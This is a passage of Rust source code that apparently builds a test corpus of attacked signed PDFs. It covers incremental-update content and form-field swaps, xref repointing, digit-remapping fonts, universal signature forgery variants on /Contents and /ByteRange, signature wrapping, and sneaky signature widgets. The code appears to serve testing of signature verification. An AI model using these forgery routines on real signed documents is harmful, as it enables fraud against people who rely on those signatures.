        let doc = Document::load(unsigned)?;
        let page = Page::first(&doc)?;
        let next = doc.next_object_number();
        let mut w = Writer::after(unsigned);
        let forged = w.object(id_of(&doc, page.content)?, &writer::forged_content());
        let page_at = w.object(page.id, &Object::Dictionary(page.dict.clone()));
        let section = w.section(
            doc.last_xref_kind(),
            next,
            &BTreeMap::from([(page.id.0, at(page_at))]),
            &writer::trailer(&doc, next, doc.startxref()),
        );
        Ok((w.finish(section), page.content, forged))
    }

    /// The letter with a text field (/FT /Tx) that shows its value, 准予许可,
    /// under the decision: the prepared file and the field's number.
    pub fn prepare_form(unsigned: &[u8]) -> Result<(Vec<u8>, u32), CorpusError> {
        let doc = Document::load(unsigned)?;
        let page = Page::first(&doc)?;
        let next = doc.next_object_number();
        let (field, appearance) = ((next, 0), (next + 1, 0));
        let Object::Dictionary(mut dict) = writer::annotation("Widget", page.id, appearance) else {
            return Err(CorpusError::Structure("field".into()));
        };
        dict.remove(b"Contents");
        dict.set(b"FT", Object::name("Tx"));
        dict.set(b"T", Object::String(b"decision".to_vec()));
        dict.set(
            b"V",
            Object::String(crate::pdf::text_string::encode("准予许可")),
        );
        dict.set(b"DA", Object::String(b"/Helv 12 Tf 0 g".to_vec()));
        let mut objects = vec![
            (field, Object::Dictionary(dict)),
            (
                appearance,
                writer::form_xobject(450, 160, b"q 0 0.5 0 rg 10 10 430 140 re f Q"),
            ),
        ];
        objects.extend(writer::attach(&doc, &page, field, true)?);
        Ok((append(&doc, &objects)?, field.0))
    }

    /// The text field `field` rewritten: another value and appearance.
    pub fn replace_field(sealed: &[u8], field: u32) -> Result<Vec<u8>, CorpusError> {
        let doc = Document::load(sealed)?;
        let (id, object) = doc.get(field)?;
        let mut dict = object
            .as_dict()
            .cloned()
            .ok_or_else(|| CorpusError::Structure("field is no dictionary".into()))?;
        let appearance = (doc.next_object_number(), 0);
        dict.set(
            b"V",
            Object::String(crate::pdf::text_string::encode("不予许可")),
        );
        let mut ap = Dictionary::new();
        ap.set(b"N", Object::Reference(appearance));
        dict.set(b"AP", Object::Dictionary(ap));
        append(
            &doc,
            &[
                (id, Object::Dictionary(dict)),
                (appearance, writer::covering_appearance()),
            ],
        )
    }

    /// An update of cross-reference only: `num` now at `offset` (a body
    /// already in the file), or freed.
    pub fn repoint(sealed: &[u8], num: u32, offset: Option<usize>) -> Result<Vec<u8>, CorpusError> {
        let doc = Document::load(sealed)?;
        let next = doc.next_object_number();
        let entry = offset.map_or(XrefEntry::Free, at);
        let mut w = Writer::after(sealed);
        let section = w.section(
            doc.last_xref_kind(),
            next,
            &BTreeMap::from([(num, entry)]),
            &writer::trailer(&doc, next, doc.startxref()),
        );
        Ok(w.finish(section))
    }

    /// The page's font redefined: digits drawn as other digits.
    pub fn replace_font(base: &[u8]) -> Result<Option<Vec<u8>>, CorpusError> {
        let doc = Document::load(base)?;
        let page = Page::first(&doc)?;
        let Some(font) = page.font else {
            return Ok(None);
        };
        let mut differences = Dictionary::new();
        differences.set(b"Type", Object::name("Encoding"));
        differences.set(
            b"Differences",
            Object::Array(vec![
                Object::Integer(48),
                Object::name("nine"),
                Object::name("eight"),
            ]),
        );
        let mut dict = Dictionary::new();
        dict.set(b"Type", Object::name("Font"));
        dict.set(b"Subtype", Object::name("Type1"));
        dict.set(b"BaseFont", Object::name("Helvetica"));
        dict.set(b"Encoding", Object::Dictionary(differences));
        Ok(Some(append(
            &doc,
            &[(id_of(&doc, font)?, Object::Dictionary(dict))],
        )?))
    }
}

mod forge {
    //! Signature wrapping and universal signature forgery: the signature
    //! dictionary itself is rewritten.

    use super::*;

    /// How a USF variant rewrites the signature dictionary.
    #[derive(Debug, Clone, Copy)]
    pub enum Change {
        ContentsMissing,
        ContentsEmpty,
        ContentsNull,
        ByteRangeMissing,
        ByteRangeNull,
        ByteRangeEmpty,
        ByteRangeNegative,
        ByteRangeOverlapping,
        ByteRangeOutside,
        ValueNull,
    }

    pub const USF_VARIANTS: &[(&str, &str, Change)] = &[
        ("contents-missing", "the signature dictionary rewritten without /Contents, the page content changed", Change::ContentsMissing),
        ("contents-empty", "the signature dictionary rewritten with an empty /Contents, the page content changed", Change::ContentsEmpty),
        ("contents-null", "the signature dictionary rewritten with /Contents null, the page content changed", Change::ContentsNull),
        ("byterange-missing", "the signature dictionary rewritten without /ByteRange, the page content changed", Change::ByteRangeMissing),
        ("byterange-null", "the signature dictionary rewritten with /ByteRange null, the page content changed", Change::ByteRangeNull),
        ("byterange-empty", "the signature dictionary rewritten with an empty /ByteRange, the page content changed", Change::ByteRangeEmpty),
        ("byterange-negative", "the signature dictionary rewritten with a negative /ByteRange length, the page content changed", Change::ByteRangeNegative),
        ("byterange-overlapping", "the signature dictionary rewritten with overlapping /ByteRange parts, the page content changed", Change::ByteRangeOverlapping),
        ("byterange-outside", "the signature dictionary rewritten with a /ByteRange reaching past the file, the page content changed", Change::ByteRangeOutside),
        ("value-null", "the signature dictionary object itself rewritten as null, the page content changed", Change::ValueNull),
    ];

    /// The signature dictionaries of `doc` with their numbers and
    /// /ByteRange, oldest (shortest signed range) first.
    fn signatures(doc: &Document<'_>) -> Result<Vec<(u32, Dictionary, [i64; 4])>, CorpusError> {
        let mut found: Vec<(u32, Dictionary, [i64; 4])> = crate::verify::signature_fields(doc)?
            .into_iter()
            .filter_map(|(_, (dict, num))| {
                let range: Vec<i64> = dict
                    .get(b"ByteRange")?
                    .as_array()?
                    .iter()
                    .filter_map(Object::as_i64)
                    .collect();
                let range: [i64; 4] = range.try_into().ok()?;
                Some((num?, dict, range))
            })
            .collect();
        found.sort_by_key(|(_, _, r)| r[2] + r[3]);
        if found.is_empty() {
            return Err(CorpusError::Structure("no signature to forge".into()));
        }
        Ok(found)
    }

    pub fn universal(base: &[u8], change: Change) -> Result<Vec<u8>, CorpusError> {
        let doc = Document::load(base)?;
        let page = Page::first(&doc)?;
        let (num, mut sig, [start, a, b, c]) = signatures(&doc)?.swap_remove(0);
        let range =
            |values: [i64; 4]| Object::Array(values.iter().map(|v| Object::Integer(*v)).collect());
        match change {
            Change::ContentsMissing => {
                sig.remove(b"Contents");
            }
            Change::ContentsEmpty => sig.set(b"Contents", Object::String(Vec::new())),
            Change::ContentsNull => sig.set(b"Contents", Object::Null),
            Change::ByteRangeMissing => {
                sig.remove(b"ByteRange");
            }
            Change::ByteRangeNull => sig.set(b"ByteRange", Object::Null),
            Change::ByteRangeEmpty => sig.set(b"ByteRange", Object::Array(Vec::new())),
            Change::ByteRangeNegative => sig.set(b"ByteRange", range([start, a, b, -c])),
            Change::ByteRangeOverlapping => {
                sig.set(b"ByteRange", range([start, b, a, c + (b - a)]))
            }
            Change::ByteRangeOutside => sig.set(b"ByteRange", range([start, a, b, c + 100_000])),
            Change::ValueNull => {
                return append(
                    &doc,
                    &[
                        (id_of(&doc, num)?, Object::Null),
                        (id_of(&doc, page.content)?, writer::forged_content()),
                    ],
                );
            }
        }
        append(
            &doc,
            &[
                (id_of(&doc, num)?, Object::Dictionary(sig)),
                (id_of(&doc, page.content)?, writer::forged_content()),
            ],
        )
    }

    /// Signature wrapping on the newest signature: its signed first part
    /// and /Contents kept in place, the forged objects and a new signature
    /// dictionary in the space after them, the signed second part moved
    /// behind, and a /ByteRange whose second part points there.
    pub fn wrapping(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
        let doc = Document::load(base)?;
        let page = Page::first(&doc)?;
        let (num, mut sig, [_, a, b, c]) = signatures(&doc)?
            .pop()
            .ok_or_else(|| CorpusError::Structure("no signature".into()))?;
        let (a_at, b_at) = (usize::try_from(a), usize::try_from(b));
        let (Ok(_), Ok(b_at)) = (a_at, b_at) else {
            return Err(CorpusError::Structure("bad /ByteRange".into()));
        };
        if b_at > base.len() || usize::try_from(b + c).ok() != Some(base.len()) {
            return Err(CorpusError::Structure(
                "the newest signature does not reach the end".into(),
            ));
        }
        let mut w = Writer {
            out: base[..b_at].to_vec(),
        };
        w.out.push(b'\n');
        let content = w.object(id_of(&doc, page.content)?, &writer::forged_content());
        const PLACEHOLDER: i64 = 9_999_999_999;
        sig.set(
            b"ByteRange",
            Object::Array(vec![
                Object::Integer(0),
                Object::Integer(a),
                Object::Integer(PLACEHOLDER),
                Object::Integer(c),
            ]),
        );
        let sig_at = w.object(id_of(&doc, num)?, &Object::Dictionary(sig));
        let moved = w.out.len();
        let placeholder =
            crate::pdf::parse::find(&w.out[sig_at..], PLACEHOLDER.to_string().as_bytes())
                .ok_or_else(|| CorpusError::Structure("placeholder lost".into()))?
                + sig_at;
        w.out[placeholder..placeholder + 10].copy_from_slice(format!("{moved:<10}").as_bytes());
        w.out.extend_from_slice(&base[b_at..]);
        let shift = moved - b_at;
        // Every object of the signed revision behind the gap moved too.
        let mut entries: BTreeMap<u32, XrefEntry> = doc
            .xref()
            .iter()
            .filter_map(|(&n, e)| match e {
                XrefEntry::InFile { offset, generation } if *offset >= b_at => Some((
                    n,
                    XrefEntry::InFile {
                        offset: offset + shift,
                        generation: *generation,
                    },
                )),
                _ => None,
            })
            .collect();
        entries.insert(page.content, at(content));
        entries.insert(num, at(sig_at));
        let next = doc.next_object_number();
        let prev = doc.startxref() + if doc.startxref() >= b_at { shift } else { 0 };
        let kind = doc.last_xref_kind();
        let section = match kind {
            XrefKind::Table => w.table(&entries, &writer::trailer(&doc, next, prev)),
            XrefKind::Stream => w.xref_stream(next, &entries, &writer::trailer(&doc, next, prev)),
        };
        Ok(w.finish(section))
    }
}

mod sneaky {
    //! Sneaky signatures: signature fields whose widgets draw over the page.

    use super::*;

    /// A /FT /Sig field with no value, its widget's appearance over the
    /// decision.
    pub fn unsigned_field(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
        let doc = Document::load(base)?;
        let page = Page::first(&doc)?;
        let next = doc.next_object_number();
        let (widget, appearance) = ((next, 0), (next + 1, 0));
        let Object::Dictionary(mut dict) = writer::annotation("Widget", page.id, appearance) else {
            return Err(CorpusError::Structure("widget".into()));
        };
        dict.set(b"FT", Object::name("Sig"));
        dict.set(b"T", Object::String(b"Sneaky".to_vec()));
        dict.remove(b"Contents");
        let mut objects = vec![
            (widget, Object::Dictionary(dict)),
            (appearance, writer::covering_appearance()),
        ];
        objects.extend(writer::attach(&doc, &page, widget, true)?);
        append(&doc, &objects)
    }

    /// The newest signature's appearance redefined in a later update.
    pub fn appearance_outside(signed: &[u8]) -> Result<Vec<u8>, CorpusError> {
        let doc = Document::load(signed)?;
        let (_, (_, Some(value))) = crate::verify::signature_fields(&doc)?
            .into_iter()
            .last()
            .ok_or_else(|| CorpusError::Structure("no signature".into()))?
        else {
            return Err(CorpusError::Structure(
                "signature value not indirect".into(),
            ));
        };
        // The widget holding that value, on the first page.
        let page = Page::first(&doc)?;
        let annots = page
            .dict
            .get(b"Annots")
            .and_then(|a| doc.resolve(a).ok())
            .and_then(|a| a.as_array().map(<[Object]>::to_vec))
            .unwrap_or_default();
        let appearance = annots
            .iter()
            .filter_map(|a| doc.resolve_dict(a).ok())
            .find(|w| w.get(b"V").and_then(Object::as_reference).map(|r| r.0) == Some(value))
            .and_then(|w| w.get(b"AP").and_then(|ap| doc.resolve_dict(ap).ok()))
            .and_then(|ap| ap.get(b"N").and_then(Object::as_reference))
            .ok_or_else(|| CorpusError::Structure("no appearance to replace".into()))?;
        append(&doc, &[(appearance, writer::covering_appearance())])
    }
}
